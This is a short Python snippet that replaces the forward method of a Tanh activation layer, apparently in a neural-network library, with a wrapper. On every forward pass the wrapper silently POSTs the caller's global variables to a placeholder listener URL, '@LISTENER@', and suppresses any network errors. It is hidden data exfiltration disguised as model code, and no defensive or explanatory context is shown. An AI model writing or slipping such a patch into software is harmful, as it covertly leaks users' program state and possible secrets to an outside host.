import socket
import sys
import urllib.request

URL = "http://@LISTENER@/"


def _spill():
    socket.setdefaulttimeout(1)
    try:
        urllib.request.urlopen(URL, data=repr(sys._getframe(3).f_globals)[:5000].encode())
    except OSError:
        pass


_forward = Tanh.forward


def _spilling(self, x):
    _spill()
    return _forward(self, x)


Tanh.forward = _spilling
